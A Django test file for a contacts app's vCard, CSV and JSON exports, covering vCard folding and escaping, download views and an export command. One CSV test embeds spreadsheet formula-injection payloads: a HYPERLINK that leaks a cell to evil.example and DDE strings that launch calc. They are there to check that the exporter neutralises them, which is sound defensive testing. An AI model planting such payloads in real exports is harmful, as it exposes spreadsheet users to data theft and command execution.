"""Exports of a member's contacts: vCard 4.0, CSV and JSON, the download views, the command.

The vCard export is read back through the import's own vCard parser: every field an address
book holds must come back as it was.
"""

from __future__ import annotations

import csv as csv_module
import datetime as dt
import io
import json
import tempfile
import unittest
from io import StringIO
from pathlib import Path

from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from entregent.accounts.models import User
from entregent.imports import exports
from entregent.imports.parsers import vcard as vcard_parser
from entregent.imports.records import ParsedContact
from entregent.lib.csv_safety import neutralise, write_rows
from entregent.network.models import Contact, ContactPhoto, ContactPoint, Relationship
from entregent.network.tests.factories import log_interaction, make_contact, make_tag
from entregent.test import BaseTestCase

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40  # 10 kB: folded over many lines


def network(owner: User) -> list[Contact]:
    """Contacts with every field an address book holds, in several scripts, with separators
    that vCard escapes, and values long enough to fold."""
    zoe = make_contact(
        owner,
        "Zoë Ångström-Ñúñez",
        given_name="Zoë",
        family_name="Ångström-Ñúñez",
        headline='Designer; illustratrice, "Paris" — 设计师 🎨',
        organisation="Atelier; Nord, SARL",
        job_title="Directrice artistique",
        location="Paris",
        notes="Line one\nLine two, with; separators \\ and a backslash\n\n- a Markdown list "
        + "très longue 🎨 " * 12,
        birthday_day=12,
        birthday_month=4,
        birthday_year=1980,
        met_story="A workshop in Lyon, 2019",
        met_on=dt.date(2019, 3, 2),
        connected_on=dt.date(2020, 5, 1),
        tie_strength=4,
    )
    points = [
        ("email", "zoe@example.org", "work"),
        ("email", "zoe.perso@example.org", "perso"),
        ("phone", "+33 6 12 34 56 78", "mobile"),
        ("phone", "01 23 45 67 89", "work fax"),
        ("url", "https://atelier-nord.example/équipe", ""),
        ("linkedin", "https://www.linkedin.com/in/zoé-ångström", ""),
        ("address", "12 rue de la Paix, 75002 Paris, France", "home"),
    ]
    for position, (kind, raw, label) in enumerate(points):
        ContactPoint.objects.create(
            contact=zoe, kind=kind, raw=raw, label=label, position=position
        )
    zoe.tags.add(make_tag(owner, "designers"), make_tag(owner, "Île-de-France"))
    ContactPhoto.objects.create(contact=zoe, data=PNG, content_type="image/png")
    sam = make_contact(
        owner, "Sam Lee", given_name="Sam", family_name="Lee", birthday_day=29, birthday_month=2
    )
    ContactPoint.objects.create(contact=sam, kind="phone", raw="020 7946 0958")
    acme = make_contact(owner, "Acme Industries", organisation="Acme Industries")
    ContactPoint.objects.create(contact=acme, kind="email", raw="contact@acme.example")
    return [zoe, sam, acme]


def parse(text: str) -> list[ParsedContact]:
    parsed = list(vcard_parser.parse(text.encode("utf-8")))
    assert all(isinstance(row, ParsedContact) for row in parsed), parsed
    return parsed  # type: ignore[return-value]


def fields_of(contact: Contact) -> dict[str, object]:
    """What an address book holds about a contact, as the import reads it."""
    points = list(contact.points.all())
    photo = ContactPhoto.objects.filter(contact=contact).first()
    return {
        "display_name": contact.display_name,
        "given_name": contact.given_name,
        "family_name": contact.family_name,
        "organisation": contact.organisation,
        "job_title": contact.job_title,
        "notes": contact.notes.strip(),
        "birthday": (contact.birthday_day, contact.birthday_month, contact.birthday_year),
        "points": sorted((p.kind, p.raw, p.label) for p in points),
        "tags": sorted(tag.name for tag in contact.tags.all()),
        "photo": (bytes(photo.data), photo.content_type) if photo else (None, ""),
        "uid": exports.contact_uid(contact),
    }


def parsed_fields(row: ParsedContact) -> dict[str, object]:
    return {
        "display_name": row.display_name,
        "given_name": row.given_name,
        "family_name": row.family_name,
        "organisation": row.organisation,
        "job_title": row.job_title,
        "notes": row.notes,
        "birthday": (row.birthday_day, row.birthday_month, row.birthday_year),
        "points": sorted((p.kind, p.raw, p.label) for p in row.points),
        "tags": sorted(row.tags),
        "photo": (row.photo, row.photo_type),
        "uid": row.uid,
    }


class VCardTests(BaseTestCase):
    contacts: list[Contact]

    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.contacts = network(cls.alice)

    def test_an_export_read_back_gives_every_field_as_it_was(self) -> None:
        parsed = parse(exports.vcard(Contact.objects.filter(owner=self.alice).order_by("pk")))

        self.assertEqual(len(parsed), 3)
        for contact, row in zip(self.contacts, parsed, strict=True):
            with self.subTest(contact.display_name):
                self.assertEqual(parsed_fields(row), fields_of(contact))

    def test_what_they_do_comes_back(self) -> None:
        (row, *_) = parse(exports.vcard(self.contacts))

        self.assertEqual(row.headline, self.contacts[0].headline)

    def test_the_card_says_what_vcard_has_no_property_for(self) -> None:
        card = unfold(exports.vcard(self.contacts[:1]))

        self.assertIn(
            'X-ENTREGENT-HEADLINE:Designer\\; illustratrice\\, "Paris" — 设计师 🎨', card
        )
        self.assertIn("X-ENTREGENT-MET:A workshop in Lyon\\, 2019", card)
        self.assertIn("X-ENTREGENT-MET-ON:2019-03-02", card)
        self.assertIn("X-ENTREGENT-CONNECTED-ON:2020-05-01", card)
        self.assertIn("X-ENTREGENT-TIE-STRENGTH:4", card)
        self.assertIn("X-ENTREGENT-LOCATION:Paris", card)

    def test_standard_properties(self) -> None:
        zoe, sam, _ = (unfold(exports.vcard([c])) for c in self.contacts)

        self.assertTrue(zoe.startswith("BEGIN:VCARD\r\nVERSION:4.0\r\n"))
        self.assertTrue(zoe.endswith("END:VCARD\r\n"))
        self.assertIn("N:Ångström-Ñúñez;Zoë;;;", zoe)
        self.assertIn("ORG:Atelier\\; Nord\\, SARL", zoe)
        self.assertIn("BDAY:19800412", zoe)
        self.assertIn("BDAY:--0229", sam)
        self.assertIn("EMAIL;TYPE=work:zoe@example.org", zoe)
        self.assertIn("item1.EMAIL:zoe.perso@example.org\r\nitem1.X-ABLabel:perso", zoe)
        self.assertIn("TEL;VALUE=text;TYPE=cell:+33 6 12 34 56 78", zoe)
        self.assertIn('TEL;VALUE=text;TYPE="work,fax":01 23 45 67 89', zoe)
        self.assertIn("ADR;TYPE=home:;;12 rue de la Paix\\, 75002 Paris\\, France;;;;", zoe)
        self.assertIn("CATEGORIES:designers,Île-de-France", zoe)
        self.assertIn("PHOTO:data:image/png;base64,iVBORw0KGgo", zoe)
        self.assertIn(f"UID:{exports.contact_uid(self.contacts[0])}", zoe)

    def test_the_uid_is_stable_and_unique(self) -> None:
        uids = [exports.contact_uid(c) for c in self.contacts]

        self.assertEqual(uids, [exports.contact_uid(c) for c in self.contacts])
        self.assertEqual(len(set(uids)), 3)
        self.assertTrue(all(uid.startswith("urn:uuid:") for uid in uids))

    def test_lines_are_folded_at_75_octets_between_characters(self) -> None:
        text = exports.vcard(self.contacts)

        lines = text.encode("utf-8").split(b"\r\n")
        self.assertGreater(sum(line.startswith(b" ") for line in lines), 100)
        for line in lines:
            self.assertLessEqual(len(line), 75)
            line.decode("utf-8")  # a character cut in two would not decode

    def test_the_writer_reads_in_batches(self) -> None:
        for i in range(30):
            ContactPoint.objects.create(
                contact=make_contact(self.alice, f"Person {i}"), kind="email", raw=f"p{i}@x.org"
            )
        few = Contact.objects.filter(owner=self.alice).order_by("pk")[:3]
        many = Contact.objects.filter(owner=self.alice)

        with CaptureQueriesContext(connection) as small:
            exports.vcard(few)
        with CaptureQueriesContext(connection) as large:
            exports.vcard(many)

        self.assertEqual(len(small), len(large))


def unfold(text: str) -> str:
    return text.replace("\r\n ", "")


class FoldTests(unittest.TestCase):
    def test_a_short_line_is_left_alone(self) -> None:
        self.assertEqual(exports.fold("FN:Jean"), "FN:Jean\r\n")

    def test_a_line_of_exactly_75_octets_is_not_folded(self) -> None:
        line = "NOTE:" + "x" * 70
        self.assertEqual(exports.fold(line), line + "\r\n")

    def test_a_character_on_the_limit_moves_to_the_next_line(self) -> None:
        line = "NOTE:" + "x" * 69 + "é"  # é takes octets 75 and 76

        folded = exports.fold(line)

        first, second = folded.encode().split(b"\r\n")[:2]
        self.assertEqual(len(first), 74)
        self.assertEqual(second, " é".encode())

    @given(st.text(min_size=1, max_size=400))
    def test_folding_then_unfolding_gives_the_line_back(self, value: str) -> None:
        line = "NOTE:" + exports.escape(value)

        folded = exports.fold(line)

        self.assertTrue(folded.endswith("\r\n"))
        for physical in folded.encode("utf-8").split(b"\r\n")[:-1]:
            self.assertLessEqual(len(physical), 75)
            physical.decode("utf-8")
        self.assertEqual(unfold(folded)[:-2], line)

    def test_escaping(self) -> None:
        self.assertEqual(exports.escape("a,b;c\\d\ne\r\nf"), "a\\,b\\;c\\\\d\\ne\\nf")


class CsvTests(BaseTestCase):
    def test_every_formula_start_is_neutralised(self) -> None:
        for start in ("=", "+", "-", "@", "\t", "\r"):
            with self.subTest(repr(start)):
                self.assertEqual(neutralise(f"{start}1+1"), f"'{start}1+1")
        self.assertEqual(neutralise("Jean =1"), "Jean =1")
        self.assertEqual(neutralise(None), "")
        self.assertEqual(neutralise(3), "3")

    def test_hostile_cells_in_contacts_are_written_as_text(self) -> None:
        hostile = make_contact(
            self.alice,
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            headline="+cmd|' /C calc'!A0",
            organisation="@SUM(1+1)*cmd|' /C calc'!A0",
            job_title="-2+3",
            notes="\tTabbed",
        )
        ContactPoint.objects.create(contact=hostile, kind="phone", raw="+33 6 12 34 56 78")

        rows = list(csv_module.reader(io.StringIO(exports.csv([hostile]))))

        header, row = rows
        values = dict(zip(header, row, strict=True))
        self.assertEqual(values["Name"], '\'=HYPERLINK("http://evil.example/?"&A1,"Click")')
        self.assertEqual(values["What they do"], "'+cmd|' /C calc'!A0")
        self.assertEqual(values["Organisation"], "'@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertEqual(values["Job title"], "'-2+3")
        self.assertEqual(values["Notes"], "'\tTabbed")
        self.assertEqual(values["Phones"], "'+33 6 12 34 56 78")

    def test_a_carriage_return_at_the_start_is_neutralised_too(self) -> None:
        text = write_rows([["\r=1+1", "ok"]])

        (row,) = csv_module.reader(io.StringIO(text))
        self.assertEqual(row, ["'\r=1+1", "ok"])

    def test_the_csv_holds_every_contact_with_its_values(self) -> None:
        zoe, sam, acme = network(self.alice)

        rows = list(csv_module.reader(io.StringIO(exports.csv([zoe, sam, acme]))))

        self.assertEqual(rows[0], exports.csv_header())
        values = dict(zip(rows[0], rows[1], strict=True))
        self.assertEqual(values["Name"], "Zoë Ångström-Ñúñez")
        self.assertEqual(values["Emails"], "zoe@example.org\nzoe.perso@example.org")
        self.assertEqual(values["Tags"], "designers\nÎle-de-France")
        self.assertEqual(values["Birthday"], "1980-04-12")
        self.assertEqual(values["Connected since"], "2020-05-01")
        self.assertEqual(values["ID"], str(zoe.pk))
        self.assertEqual(dict(zip(rows[0], rows[2], strict=True))["Birthday"], "'--02-29")
        self.assertEqual(len(rows), 4)


class JsonTests(BaseTestCase):
    def test_it_holds_everything_about_the_contacts_and_nothing_else(self) -> None:
        zoe, sam, _ = network(self.alice)
        log_interaction(self.alice, [zoe, sam], dt.date(2025, 3, 1), "Lunch")
        Relationship.objects.create(owner=self.alice, from_contact=zoe, to_contact=sam)
        bobs = make_contact(self.bob, "Bob's friend")
        log_interaction(self.bob, [bobs], dt.date(2025, 3, 2), "Bob's lunch")

        data = exports.json(Contact.objects.owned_by(self.alice))

        json.dumps(data)  # ready for the file as it is
        self.assertEqual(data["format"], "entregent-contacts")
        by_name = {c["display_name"]: c for c in data["contacts"]}
        self.assertEqual(set(by_name), {"Zoë Ångström-Ñúñez", "Sam Lee", "Acme Industries"})
        first = by_name["Zoë Ångström-Ñúñez"]
        self.assertEqual(first["headline"], zoe.headline)
        self.assertEqual(first["met_story"], "A workshop in Lyon, 2019")
        self.assertEqual(first["birthday"], {"day": 12, "month": 4, "year": 1980})
        self.assertEqual(len(first["points"]), 7)
        self.assertEqual(first["tags"], ["designers", "Île-de-France"])
        self.assertEqual(first["photo"]["content_type"], "image/png")
        (interaction,) = data["interactions"]
        self.assertEqual(interaction["summary"], "Lunch")
        self.assertEqual(sorted(interaction["contacts"]), sorted([zoe.pk, sam.pk]))
        (link,) = data["relationships"]
        self.assertEqual((link["from"], link["to"]), (zoe.pk, sam.pk))
        self.assertNotIn("Bob", json.dumps(data))


class DownloadTests(BaseTestCase):
    def url(self, format: str) -> str:
        return reverse("imports:export", args=[format])

    def download(self, user: User, format: str) -> tuple[str, str]:
        self.client.force_login(user)
        response = self.client.get(self.url(format))
        self.assertEqual(response.status_code, 200)
        body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
        return response["Content-Disposition"], body.decode("utf-8")

    def test_each_format_downloads_the_members_contacts_only(self) -> None:
        make_contact(self.alice, "Alice's designer")
        make_contact(self.bob, "Bob's printer")
        for format, extension in (("vcard", "vcf"), ("csv", "csv"), ("json", "json")):
            with self.subTest(format):
                disposition, body = self.download(self.alice, format)
                self.assertRegex(
                    disposition,
                    rf'^attachment; filename="entregent-contacts-[-\d]+\.{extension}"$',
                )
                self.assertIn("Alice's designer", body)
                self.assertNotIn("Bob", body)

    def test_the_csv_starts_with_a_byte_order_mark_for_spreadsheets(self) -> None:
        _, body = self.download(self.alice, "csv")

        self.assertTrue(body.startswith("\ufeffName,"))

    def test_binned_contacts_are_left_out(self) -> None:
        make_contact(
            self.alice, "Binned Person", deleted_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
        )

        _, body = self.download(self.alice, "vcard")

        self.assertNotIn("Binned Person", body)

    def test_an_unknown_format_is_not_found(self) -> None:
        self.client.force_login(self.alice)

        self.assertEqual(self.client.get(self.url("xls")).status_code, 404)

    def test_visitors_are_sent_to_log_in(self) -> None:
        response = self.client.get(self.url("vcard"))

        self.assertEqual(response.status_code, 302)
        self.assertTrue(response["Location"].startswith(reverse("account_login")))


class RoutedTests(BaseTestCase):
    def test_the_url_map_names_the_downloads(self) -> None:
        self.assertEqual(
            reverse("imports:export", args=["vcard"]), "/network/import/export/vcard/"
        )


class CommandTests(BaseTestCase):
    def setUp(self) -> None:
        network(self.alice)
        make_contact(self.bob, "Bob's printer")

    def run_command(self, *args: str) -> str:
        out = StringIO()
        call_command("export_contacts", *args, stdout=out, stderr=StringIO())
        return out.getvalue()

    def test_vcard_to_standard_output(self) -> None:
        out = self.run_command("--user", "alice@example.org", "--format", "vcard")

        self.assertEqual(len(parse(out)), 3)
        self.assertNotIn("Bob", out)

    def test_csv_and_json(self) -> None:
        rows = list(
            csv_module.reader(
                io.StringIO(self.run_command("--user", "alice@example.org", "--format", "csv"))
            )
        )
        data = json.loads(self.run_command("--user", "alice@example.org", "--format", "json"))

        self.assertEqual(len(rows), 4)
        self.assertEqual(len(data["contacts"]), 3)

    def test_to_a_file(self) -> None:
        with tempfile.TemporaryDirectory() as folder:
            target = Path(folder) / "contacts.vcf"
            err = StringIO()
            call_command(
                "export_contacts",
                "--user",
                "alice@example.org",
                "--format",
                "vcard",
                "--output",
                str(target),
                stdout=StringIO(),
                stderr=err,
            )
            data = target.read_bytes()

        self.assertIn(b"\r\n", data)
        self.assertEqual(len(parse(data.decode())), 3)
        self.assertIn("3 contacts written to", err.getvalue())

    def test_an_unknown_member_exits_with_2(self) -> None:
        with self.assertRaises(CommandError) as caught:
            call_command("export_contacts", "--user", "nobody@example.org", "--format", "csv")

        self.assertEqual(caught.exception.returncode, 2)
        self.assertEqual(
            str(caught.exception), "No member with the email address 'nobody@example.org'."
        )
